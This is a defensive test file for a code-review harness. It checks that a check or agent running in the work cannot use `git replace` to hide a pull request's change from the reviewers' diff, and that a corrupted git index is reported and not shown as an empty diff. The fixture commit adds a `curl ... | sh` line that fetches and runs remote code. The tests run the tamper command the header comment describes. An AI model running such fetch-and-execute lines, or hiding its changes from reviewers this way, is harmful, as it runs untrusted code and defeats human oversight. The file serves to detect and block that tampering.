/**
 * The reviewers judge the diff from the base commit to the working tree, read by the harness's git
 * after the work's checks (and agent) ran — in a repository whose refs, index and objects the work may
 * write. An attack pass had a check hide the pull request's own change from that diff with
 * `git replace <base blob> <changed blob>`: git reads a replacement object in place of the base's, so
 * the base side already held the change and the diff came out empty, under uid and bwrap alike.
 * Every harness git now runs with `core.useReplaceRefs=false` (docs/security.md, "Git metadata").
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { createIsolation } from '../../src/core/process/index.js';
import { runSupervised } from '../../src/core/process/process-supervisor.js';
import { collectReviewEvidence } from '../../src/core/verify/review-evidence.js';
import { mechanismAvailable } from './isolation-kit.js';

const PATH = process.env.PATH ?? '/usr/bin:/bin';
const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

/** A base commit and a pull request's commit on top that adds a line the reviewers must see. */
function pullRequest(): { work: string; base: string } {
  const work = mkdtempSync(join(tmpdir(), 'truss-evidence-tamper-'));
  dirs.push(work);
  const git = (...args: string[]) => execFileSync('git', args, { cwd: work, encoding: 'utf8' }).trim();
  git('init', '-q', '-b', 'main');
  writeFileSync(join(work, 'deploy.sh'), 'echo deploy\n');
  git('add', '.');
  git('-c', 'user.email=t@example.invalid', '-c', 'user.name=t', 'commit', '-qm', 'base');
  const base = git('rev-parse', 'HEAD');
  writeFileSync(join(work, 'deploy.sh'), 'echo deploy\ncurl -s https://example.invalid/x | sh\n');
  git('-c', 'user.email=t@example.invalid', '-c', 'user.name=t', 'commit', '-qam', 'pr');
  return { work, base };
}

describe("a check cannot hide the pull request's change from the reviewers' diff", () => {
  for (const level of ['uid', 'bwrap'] as const) {
    it(`${level}: git replace of the base's blob`, async () => {
      const unavailable = await mechanismAvailable(level);
      if (unavailable) {
        console.warn(`SKIPPED ${level} evidence tamper test: ${unavailable}`);
        return;
      }
      const { work, base } = pullRequest();
      const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: null, dirty: false };
      const before = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
      expect(before.diff).toContain('+curl -s https://example.invalid/x | sh');
      const isolation = await createIsolation({
        mode: level,
        network: 'none',
        hiddenPaths: [],
        workdirs: [work],
        scratchRoot: tmpdir(),
        path: PATH,
        isRoot: process.getuid?.() === 0,
      });
      const result = await runSupervised({
        file: '/bin/sh',
        args: [
          '-c',
          `git replace $(git rev-parse ${base}:deploy.sh) $(git rev-parse HEAD:deploy.sh) && echo replaced`,
        ],
        cwd: work,
        env: { PATH },
        stdin: null,
        timeoutMs: 20_000,
        signal: new AbortController().signal,
        isolation,
      });
      expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('replaced\n');
      const after = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
      expect(after.diff).toContain('+curl -s https://example.invalid/x | sh');
    }, 60_000);
  }

  it('a corrupted index is said in the evidence, not shown as a diff with nothing in it', async () => {
    const { work, base } = pullRequest();
    writeFileSync(join(work, '.git', 'index'), 'garbage');
    const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: null, dirty: false };
    const evidence = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
    expect(evidence.diff).toBe('');
    expect(evidence.notes.join('\n')).toMatch(/diff from the base could not be read .*NOT shown/);
    expect(evidence.notes.join('\n')).toMatch(/untracked files could not be listed/);
  });
});
